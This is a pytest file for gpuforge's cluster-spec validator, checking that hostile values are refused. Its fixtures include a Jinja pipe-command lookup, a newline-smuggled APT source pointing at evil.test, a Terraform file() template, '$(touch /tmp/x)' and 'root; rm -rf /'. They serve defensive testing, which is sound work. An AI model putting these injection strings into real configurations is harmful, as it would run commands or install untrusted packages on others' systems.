"""Spec text is data: values that would be read as code, or split into more lines, by the
languages they reach (Jinja, HCL, APT sources) are refused with file, line, field and a fix."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import typer
from typer.testing import CliRunner

from gpuforge.cli import spec_cmds
from gpuforge.errors import Problem
from gpuforge.spec import SpecDocument


def _payload(stdout: str) -> Any:
    """What a `--json` answer carries: its `result`, or its `error` (with `ok` beside either)."""
    body = json.loads(stdout)
    inner = body["result"] if "result" in body else body["error"]
    return {"ok": body["ok"], **inner} if isinstance(inner, dict) else inner


JINJA_URL = "{{ lookup('pipe', 'touch /tmp/gpuforge-pwned') }}"
NEWLINE_URL = "file:/srv/gpuforge-apt\ndeb [trusted=yes] http://evil.test /"


def spec_with(**sections: Any) -> str:
    """A valid AWS spec (one pool) with `sections` merged in, as YAML (JSON is YAML)."""
    data: dict[str, Any] = {
        "apiVersion": "gpuforge/v1",
        "kind": "Cluster",
        "name": "hostile",
        "target": "aws/us-east-1",
        "pools": {"train": {"gpu": "H100:8"}},
    }
    for key, value in sections.items():
        data[key] = value
    return json.dumps(data, indent=2, ensure_ascii=False) + "\n"


def only_problem(problems: list[Problem], field: str) -> Problem:
    """The single problem reported, which must name `field` and carry a fix."""
    assert [p.location.path for p in problems] == [field], problems
    problem = problems[0]
    assert problem.location.line > 0 and problem.fix, problem
    return problem


def test_jinja_in_the_repository_url_is_refused(problems: Callable[[str], list[Problem]]) -> None:
    text = spec_with(software={"repository": "mirror", "repository_url": JINJA_URL})
    problem = only_problem(problems(text), "software.repository_url")
    assert "not a plain URL" in problem.message


def test_a_newline_in_the_repository_url_is_refused(
    problems: Callable[[str], list[Problem]],
) -> None:
    text = spec_with(software={"repository": "local", "repository_url": NEWLINE_URL})
    problem = only_problem(problems(text), "software.repository_url")
    assert "U+000A" in problem.message


@pytest.mark.parametrize(
    ("url", "said"),
    [
        ("ftp://mirror.example.com/cuda", "scheme"),
        ("javascript:alert(1)", "scheme"),
        ("https://user:secret@mirror.example.com/cuda", "credentials"),
        ("https:///cuda", "no host"),
        ("https://mirror.example.com/cuda?x=1", "not a plain URL"),
        ("https://mirror.example.com/cu da", "not a plain URL"),
        ("file:relative/path", "absolute path"),
        ("https://mirror.example.com:99999/cuda", "not a valid URL"),
    ],
)
def test_urls_are_parsed_and_checked(
    url: str, said: str, problems: Callable[[str], list[Problem]]
) -> None:
    text = spec_with(software={"repository": "mirror", "repository_url": url})
    assert said in only_problem(problems(text), "software.repository_url").message


@pytest.mark.parametrize(
    "url", ["https://mirror.example.com/cuda", "http://10.0.0.5:8080/nvidia/", "file:/srv/apt"]
)
def test_plain_urls_load(url: str, load: Callable[[str], SpecDocument]) -> None:
    spec = load(spec_with(software={"repository": "mirror", "repository_url": url})).spec
    assert spec.software.repository_url == url


def test_a_terraform_template_as_an_aws_tag_key_is_refused(
    problems: Callable[[str], list[Problem]],
) -> None:
    key = "${file(var.ssh_public_key)}"
    text = spec_with(pools={"train": {"gpu": "H100:8", "labels": {key: "x"}}})
    problem = only_problem(problems(text), f"pools.train.labels.{key}")
    assert "AWS tag key" in problem.message


@pytest.mark.parametrize(
    ("target", "labels", "said"),
    [
        ("gcp/us-central1", {"Team": "ml"}, "GCP label key"),
        ("gcp/us-central1", {"1team": "ml"}, "GCP label key"),
        ("gcp/us-central1", {"k" * 64: "ml"}, "GCP label key"),
        ("gcp/us-central1", {"team": "ML Research"}, "GCP label value"),
        ("gcp/us-central1", {"team": "😀"}, "GCP label value"),
        ("aws/us-east-1", {"aws:owner": "me"}, "reserved prefix"),
        ("aws/us-east-1", {"team": "😀"}, "AWS tag value"),
        ("aws/us-east-1", {"team": "a" * 257}, "AWS tag value"),
        ("azure/eastus", {"a/b": "x"}, "Azure tag key"),
        ("azure/eastus", {"team": "x" * 257}, "Azure tag value"),
        ("local", {"team": "line\nbreak"}, "U+000A"),
    ],
)
def test_labels_follow_the_rules_of_the_pool_s_cloud(
    target: str, labels: dict[str, str], said: str, problems: Callable[[str], list[Problem]]
) -> None:
    text = spec_with(target=target, pools={"train": {"gpu": "H100:8", "labels": labels}})
    key = next(iter(labels))
    assert said in only_problem(problems(text), f"pools.train.labels.{key}").message


def test_labels_within_each_cloud_s_rules_load(load: Callable[[str], SpecDocument]) -> None:
    for target, labels in [
        ("gcp/us-central1", {"team": "ml-research", "cost_center": "42"}),
        ("aws/us-east-1", {"Team": "ML Research", "owner": "ops@example.com", "é": "ü"}),
        ("azure/eastus", {"Team Name": "ML {research}"}),
    ]:
        text = spec_with(target=target, pools={"train": {"gpu": "H100:8", "labels": labels}})
        assert load(text).spec.pools["train"].labels == labels


@pytest.mark.parametrize("char", ["\x00", "\n", "\r", "\t", "\x1b", "\u2028", "\u202e"])
@pytest.mark.parametrize(
    ("sections", "field"),
    [
        ({"state": {"backend": "s3", "bucket": "b", "key": "a{c}b"}}, "state.key"),
        ({"state": {"path": "a{c}b"}}, "state.path"),
        ({"software": {"kernel": "5.15{c}"}}, "software.kernel"),
        (
            {
                "cost": {
                    "schedule": [
                        {"pool": "train", "start": "0 2{c}0 * * *", "end": "0 8 * * *", "count": 0}
                    ]
                }
            },
            "cost.schedule[0].start",
        ),
        ({"security": {"ssh_public_key": "ssh-ed25519 AAAA x{c}y"}}, "security.ssh_public_key"),
        ({"pools": {"train": {"gpu": "H100:8", "zone": "us-east-1a{c}"}}}, "pools.train.zone"),
        ({"validation": {"skip": ["nccl{c}"]}}, "validation.skip[0]"),
    ],
)
def test_control_characters_are_refused_in_every_text_field(
    char: str,
    sections: dict[str, Any],
    field: str,
    problems: Callable[[str], list[Problem]],
) -> None:
    text = spec_with(**json.loads(json.dumps(sections).replace("{c}", json.dumps(char)[1:-1])))
    only_problem(problems(text), field)


@pytest.mark.parametrize(
    ("sections", "field"),
    [
        ({"target": "aws/us-east-1 ${path.cwd}"}, "target"),
        ({"pools": {"train": {"gpu": "H100:8", "instance_type": "${x}"}}}, "pools.train"),
        ({"security": {"ssh_public_key": "not a key"}}, "security.ssh_public_key"),
    ],
)
def test_values_with_a_known_shape_must_have_it(
    sections: dict[str, Any], field: str, problems: Callable[[str], list[Problem]]
) -> None:
    found = problems(spec_with(**sections))
    assert found and all(p.location.path.startswith(field) for p in found), found


def test_onprem_hosts_need_an_address_and_a_login_name(
    problems: Callable[[str], list[Problem]],
) -> None:
    host = {"name": "n1", "address": "$(touch /tmp/x)", "user": "root; rm -rf /"}
    text = spec_with(target="onprem", pools={"dgx": {"gpu": "H100:8", "hosts": [host]}})
    fields = sorted(p.location.path for p in problems(text))
    assert fields == ["pools.dgx.hosts[0].address", "pools.dgx.hosts[0].user"]


def test_check_refuses_the_hostile_spec_with_exit_2(tmp_path: Path) -> None:
    key = "${file(var.ssh_public_key)}"
    spec = tmp_path / "cluster.yaml"
    spec.write_text(spec_with(pools={"train": {"gpu": "H100:8", "labels": {key: "x"}}}))
    app = typer.Typer()
    spec_cmds.register(app)
    result = CliRunner().invoke(app, ["check", str(spec), "--json"])
    assert result.exit_code == 2, result.output
    payload = _payload(result.output)
    assert "Traceback" not in result.output
    assert f"pools.train.labels.{key}" in json.dumps(payload)
